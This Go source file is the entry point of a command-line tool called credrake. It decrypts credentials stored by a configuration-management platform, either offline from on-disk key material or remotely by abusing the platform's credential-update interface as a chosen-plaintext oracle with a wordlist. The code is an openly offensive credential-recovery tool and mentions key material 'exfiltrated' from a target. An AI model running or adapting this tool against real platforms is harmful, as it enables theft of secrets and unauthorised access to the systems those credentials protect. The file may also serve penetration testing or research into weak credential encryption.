// credrake recovers secrets protected by a configuration-management
// platform's layered AES-ECB credential encryption: offline, by
// replaying the key-derivation chain over the on-disk key material, or
// remotely, by driving the platform's credential-update interface as a
// chosen-plaintext comparison oracle.
package main

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"
	"github.com/urfave/cli/v2"

	"github.com/credrake/credrake/config"
	"github.com/credrake/credrake/keywrap"
	"github.com/credrake/credrake/oracle"
	"github.com/credrake/credrake/session"
	"github.com/credrake/credrake/store"
	"github.com/credrake/credrake/transport"
	"github.com/credrake/credrake/wordlist"
)

// Version is set at build time.
var Version = "dev"

// Exit codes. Zero is success with a result; a clean dictionary miss is
// distinguished from every fatal error kind.
const (
	exitNoMatch   = 3
	exitEncoding  = 4
	exitMarker    = 5
	exitPadding   = 6
	exitTransport = 7
)

func main() {
	app := &cli.App{
		Name:    "credrake",
		Usage:   "recover credentials protected by layered AES-ECB key wrapping",
		Version: Version,
		Flags: []cli.Flag{
			&cli.BoolFlag{Name: "verbose", Aliases: []string{"v"}, Usage: "enable debug logging"},
		},
		Before: func(c *cli.Context) error {
			zerolog.TimeFieldFormat = zerolog.TimeFormatUnix
			log.Logger = log.Output(zerolog.ConsoleWriter{Out: os.Stderr})
			if c.Bool("verbose") {
				zerolog.SetGlobalLevel(zerolog.DebugLevel)
			} else {
				zerolog.SetGlobalLevel(zerolog.InfoLevel)
			}
			return nil
		},
		Commands: []*cli.Command{
			decryptCommand(),
			crackCommand(),
			showCommand(),
		},
	}

	if err := app.Run(os.Args); err != nil {
		// cli.Exit errors carry their own code and have already been
		// printed by the framework.
		var exitErr cli.ExitCoder
		if !errors.As(err, &exitErr) {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(exitErr.ExitCode())
	}
}

func decryptCommand() *cli.Command {
	return &cli.Command{
		Name:  "decrypt",
		Usage: "decrypt a stored credential from on-disk key material",
		Flags: []cli.Flag{
			&cli.StringFlag{Name: "home", Usage: "platform home directory holding secrets/ and the credentials document"},
			&cli.StringFlag{Name: "id", Usage: "credential id to extract when --home is used"},
			&cli.StringFlag{Name: "master-key", Usage: "master key file (overrides --home)"},
			&cli.StringFlag{Name: "key-blob", Usage: "wrapped intermediate key blob file (overrides --home)"},
			&cli.StringFlag{Name: "ciphertext", Usage: "base64 credential ciphertext (overrides --home)"},
		},
		Action: runDecrypt,
	}
}

func runDecrypt(c *cli.Context) error {
	master, blob, ciphertext, err := decryptInputs(c)
	if err != nil {
		return cli.Exit(err.Error(), exitCode(err))
	}

	wrappingKey := keywrap.DeriveKey(master)
	contentKey, err := keywrap.UnwrapKeyBlob(wrappingKey, blob)
	if err != nil {
		return cli.Exit(fmt.Sprintf("unwrapping key blob: %v", err), exitCode(err))
	}
	secret, err := keywrap.DecryptSecret(contentKey, ciphertext)
	if err != nil {
		return cli.Exit(err.Error(), exitCode(err))
	}

	fmt.Println(string(secret))
	return nil
}

// decryptInputs resolves the three artifacts from either a platform
// home directory or explicit flags.
func decryptInputs(c *cli.Context) (master, blob, ciphertext []byte, err error) {
	if home := c.String("home"); home != "" {
		s := store.New(home)
		if master, err = s.MasterKeyMaterial(); err != nil {
			return nil, nil, nil, err
		}
		if blob, err = s.KeyBlob(); err != nil {
			return nil, nil, nil, err
		}
		id := c.String("id")
		if id == "" {
			return nil, nil, nil, fmt.Errorf("--id is required with --home")
		}
		if ciphertext, err = s.CredentialCiphertext(id); err != nil {
			return nil, nil, nil, err
		}
		return master, blob, ciphertext, nil
	}

	if c.String("master-key") == "" || c.String("key-blob") == "" || c.String("ciphertext") == "" {
		return nil, nil, nil, fmt.Errorf("need --home, or all of --master-key, --key-blob and --ciphertext")
	}
	master, err = os.ReadFile(c.String("master-key"))
	if err != nil {
		return nil, nil, nil, err
	}
	master = []byte(strings.TrimSpace(string(master)))
	if blob, err = readBlobFile(c.String("key-blob")); err != nil {
		return nil, nil, nil, err
	}
	if ciphertext, err = decodeCiphertext(c.String("ciphertext")); err != nil {
		return nil, nil, nil, err
	}
	return master, blob, ciphertext, nil
}

// readBlobFile reads a key blob that may be raw (the platform's native
// format) or base64 re-encoded by whoever exfiltrated it.
func readBlobFile(path string) ([]byte, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	if len(data)%16 == 0 && len(data) > 0 {
		return data, nil
	}
	decoded, decErr := base64.StdEncoding.DecodeString(strings.TrimSpace(string(data)))
	if decErr != nil {
		return nil, fmt.Errorf("key blob %s is neither block-aligned raw bytes nor base64: %w",
			path, keywrap.ErrEncoding)
	}
	return decoded, nil
}

func decodeCiphertext(s string) ([]byte, error) {
	ct, err := base64.StdEncoding.DecodeString(strings.Trim(strings.TrimSpace(s), "{}"))
	if err != nil {
		return nil, fmt.Errorf("ciphertext is not valid base64: %w", keywrap.ErrEncoding)
	}
	return ct, nil
}

func crackCommand() *cli.Command {
	return &cli.Command{
		Name:  "crack",
		Usage: "recover a secret remotely through the chosen-plaintext oracle",
		Flags: []cli.Flag{
			&cli.StringFlag{Name: "wordlist", Aliases: []string{"w"}, Required: true, Usage: "dictionary file, one candidate per line"},
			&cli.StringFlag{Name: "target", Required: true, Usage: "base64 target credential ciphertext"},
			&cli.StringFlag{Name: "config", Value: "credrake.yaml", Usage: "run configuration file"},
			&cli.IntFlag{Name: "concurrency", Usage: "override batch concurrency"},
			&cli.StringFlag{Name: "resume", Usage: "resume a previous run by id"},
		},
		Action: runCrack,
	}
}

func runCrack(c *cli.Context) error {
	cfg, err := config.Load(c.String("config"))
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}
	if c.IsSet("concurrency") {
		cfg.Batch.Concurrency = c.Int("concurrency")
	}

	dict, err := os.ReadFile(c.String("wordlist"))
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}
	words, err := readWords(dict)
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}
	target, err := decodeCiphertext(c.String("target"))
	if err != nil {
		return cli.Exit(err.Error(), exitEncoding)
	}

	tr, closeTransport, err := buildTransport(cfg)
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}
	defer closeTransport()

	forbidden := append([]byte(nil), tr.CorruptingByteValues()...)
	for _, b := range cfg.Candidates.ExtraForbiddenPadBytes {
		forbidden = append(forbidden, byte(b))
	}
	cands := wordlist.Generate(words, wordlist.Options{
		BlockSize:         cfg.Candidates.BlockSize,
		ForbiddenPadBytes: forbidden,
		MaxWordLen:        cfg.Candidates.MaxWordLen,
	})

	sessions, err := session.Open(cfg.Session.Dir)
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}
	defer sessions.Close()

	dictSHA := fingerprint(dict)
	targetSHA := fingerprint(target)
	var run *session.Run
	if id := c.String("resume"); id != "" {
		run, err = sessions.Resume(id, dictSHA, targetSHA)
	} else {
		run, err = sessions.NewRun(dictSHA, targetSHA)
	}
	if err != nil {
		return cli.Exit(err.Error(), 1)
	}

	engine := &oracle.Engine{
		Transport:   tr,
		BlockSize:   cfg.Candidates.BlockSize,
		Concurrency: cfg.Batch.Concurrency,
		Retries:     cfg.Batch.Retries,
		Progress:    run,
	}

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()

	match, err := engine.FindMatch(ctx, cands, target)
	if err != nil {
		log.Error().Err(err).Str("run", run.ID).Msg("search aborted; resume with --resume")
		return cli.Exit(err.Error(), exitCode(err))
	}

	if err := run.Complete(session.Snapshot{
		Found:      match.Found,
		Index:      match.Index,
		Word:       match.Word,
		FinishedAt: time.Now(),
	}); err != nil {
		log.Warn().Err(err).Msg("could not record run outcome")
	}

	if !match.Found {
		fmt.Fprintf(os.Stderr, "dictionary exhausted, no match (run %s)\n", run.ID)
		return cli.Exit("", exitNoMatch)
	}
	fmt.Println(match.Word)
	return nil
}

func showCommand() *cli.Command {
	return &cli.Command{
		Name:      "show",
		Usage:     "print the sealed outcome of a finished run",
		ArgsUsage: "RUN_ID",
		Flags: []cli.Flag{
			&cli.StringFlag{Name: "config", Value: "credrake.yaml", Usage: "run configuration file"},
		},
		Action: func(c *cli.Context) error {
			if c.NArg() != 1 {
				return cli.Exit("expected exactly one run id", 1)
			}
			cfg, err := config.Load(c.String("config"))
			if err != nil {
				return cli.Exit(err.Error(), 1)
			}
			sessions, err := session.Open(cfg.Session.Dir)
			if err != nil {
				return cli.Exit(err.Error(), 1)
			}
			defer sessions.Close()

			snap, err := sessions.LoadSnapshot(c.Args().First())
			if err != nil {
				return cli.Exit(err.Error(), 1)
			}
			if !snap.Found {
				fmt.Printf("run %s: no match (finished %s)\n", c.Args().First(), snap.FinishedAt)
				return nil
			}
			fmt.Printf("run %s: matched index %d: %s\n", c.Args().First(), snap.Index, snap.Word)
			return nil
		},
	}
}

func buildTransport(cfg *config.Config) (oracle.Transport, func(), error) {
	switch cfg.Oracle.Kind {
	case "http":
		tr, err := transport.NewHTTPForm(cfg.Oracle.HTTP)
		if err != nil {
			return nil, nil, err
		}
		return tr, func() {}, nil
	case "nats":
		tr, err := transport.NewNATSRelay(cfg.Oracle.NATS)
		if err != nil {
			return nil, nil, err
		}
		return tr, tr.Close, nil
	default:
		return nil, nil, fmt.Errorf("unknown oracle kind %q (want http or nats)", cfg.Oracle.Kind)
	}
}

func readWords(dict []byte) ([]string, error) {
	sc := bufio.NewScanner(strings.NewReader(string(dict)))
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	var words []string
	for sc.Scan() {
		if line := sc.Text(); line != "" {
			words = append(words, line)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("reading wordlist: %w", err)
	}
	if len(words) == 0 {
		return nil, fmt.Errorf("wordlist is empty")
	}
	return words, nil
}

func fingerprint(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// exitCode maps error kinds to the documented exit codes.
func exitCode(err error) int {
	var terr *oracle.TransportError
	switch {
	case errors.As(err, &terr):
		return exitTransport
	case errors.Is(err, keywrap.ErrBadPadding):
		return exitPadding
	case errors.Is(err, keywrap.ErrMarkerMissing):
		return exitMarker
	case errors.Is(err, keywrap.ErrEncoding):
		return exitEncoding
	}
	return 1
}
